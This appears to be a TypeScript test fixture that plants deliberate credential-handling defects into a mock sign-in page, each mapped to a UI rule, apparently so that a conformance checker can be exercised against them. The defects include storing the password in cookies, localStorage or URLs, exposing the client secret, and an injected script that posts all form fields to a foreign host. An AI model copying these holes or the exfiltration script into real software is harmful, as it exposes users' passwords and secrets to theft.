import type { Session } from '#mock/world/tenant.ts';
import { codeIn } from './journeys.ts';
import { define, defect } from '../define.ts';
import { escaped, FOREIGN } from './foreign.ts';
import {
  add,
  allow,
  copyOf,
  keep,
  page,
  redirect,
  repeat,
  script,
  wayOut,
  type PageReply,
  type PageSpoil,
} from './reply.ts';

/** What gets into hands that it is not for. */

const detours = new WeakMap<Session, PageReply>();

/** Leads by an address that holds what was typed. What was to be answered comes there. */
const detour =
  (name: 'password' | 'code'): PageSpoil =>
  (reply, { call, session, typed }) => {
    const kept = session && call.req.query(name) !== undefined ? detours.get(session) : undefined;
    if (kept && call.req.method === 'GET') repeat(reply, kept);
    if (!session || call.req.method !== 'POST' || typed[name] === '') return;
    detours.set(session, copyOf(reply));
    redirect(reply, `${call.req.path}?${name}=${encodeURIComponent(typed[name])}`);
  };

const passwords = new WeakMap<Session, string>();

/** Tells a person what they have typed, as long as the sign-in lasts. */
const showPassword: PageSpoil = (reply, { session, typed }) => {
  if (!session) return;
  if (typed.password) passwords.set(session, typed.password);
  const password = passwords.get(session);
  if (password !== undefined) add(reply, `<p>Your password: ${escaped(password)}</p>`);
};

/** Changes where the browser leaves to. */
const onTheWayOut =
  (change: (way: string, userId: string) => string, status?: number): PageSpoil =>
  (reply, { world, tenant }) => {
    const way = wayOut(reply, world);
    const user = tenant?.codes.get(codeIn(way))?.user;
    if (user) redirect(reply, change(way, user.id), status);
  };

const tellAuthorize = "fetch('/v1/auth/oauth/authorize', { method: 'POST' }).catch(() => undefined);";
const onSubmit = (act: string) => `document.addEventListener('submit', ({ target }) => { ${act} });`;
const fields = '[...new FormData(target)]';

export const leaks = define({
  'password-in-page': defect('Writes the password back into the page.', {
    violates: ['UI-038'],
    spoils: page((reply, { typed }) => {
      const field = /(<input\b[^>]*type="password")/i;
      if (typed.password) reply.html = reply.html.replace(field, `$1 value="${escaped(typed.password)}"`);
    }),
  }),
  'password-in-cookie': defect('Keeps the password in a cookie.', {
    violates: ['UI-037'],
    spoils: page((reply, { world, typed }) => {
      if (typed.password) keep(reply, world, 'remember', typed.password);
    }),
  }),
  'password-in-storage': defect(
    'Keeps passwords of both kinds in the storage of the browser, where every script of the page finds it.',
    {
      violates: ['UI-037', 'UI-049'],
      spoils: page((reply) =>
        script(reply, onSubmit(`for (const [name, value] of ${fields}) localStorage.setItem(name, value);`)),
      ),
    },
  ),
  'password-in-address': defect('Leads by an address that holds the password, which histories and logs keep.', {
    violates: ['UI-036'],
    spoils: page(detour('password')),
  }),
  'otp-in-address': defect('Leads by an address that holds the one-time password.', {
    violates: ['UI-049'],
    spoils: page(detour('code')),
  }),
  'password-shown': defect('Shows the password that was typed.', { violates: ['UI-038'], spoils: page(showPassword) }),
  'secret-key-in-page': defect('Writes the secret key of the app into the page.', {
    violates: ['UI-038'],
    spoils: page((reply, { session }) =>
      add(reply, `<input type="hidden" name="client" value="${session?.client.secret ?? ''}" />`, 'form'),
    ),
  }),
  'credentials-shared': defect('Sends what was typed to another host too.', {
    violates: ['UI-035'],
    spoils: page((reply) => {
      allow(reply, 'connect-src', FOREIGN);
      const send = `fetch('${FOREIGN}/t', { method: 'POST', mode: 'no-cors', keepalive: true, body });`;
      script(reply, onSubmit(`const body = new URLSearchParams(${fields}).toString(); ${send}`));
    }),
  }),
  'referrer-sent': defect('Tells other sites the address of the page.', {
    violates: ['UI-043'],
    spoils: page(({ headers }) => headers.set('referrer-policy', 'unsafe-url')),
  }),
  'page-cached': defect('Lets the page be cached.', {
    violates: ['UI-043'],
    spoils: page(({ headers }) => headers.delete('cache-control')),
  }),
  'callback-talkative': defect('Tells the app in the address who signed in.', {
    violates: ['UI-031'],
    spoils: page(onTheWayOut((way, userId) => `${way}&user_id=${userId}`)),
  }),
  'callback-with-fragment': defect(
    'Puts something into the fragment of the callback, where scripts of the app find it.',
    { violates: ['UI-032'], spoils: page(onTheWayOut((way, userId) => `${way}#user_id=${userId}`)) },
  ),
  'form-forwarded': defect('Has the browser send the password on to the redirect URI.', {
    violates: ['UI-047'],
    spoils: page(onTheWayOut((way) => way, 307)),
  }),
  'page-authorizing': defect('Calls the API of the app from within the page.', {
    spoils: page((reply) => {
      allow(reply, 'connect-src', "'self'");
      script(reply, tellAuthorize);
    }),
    changes: ['UI-028'],
  }),
});
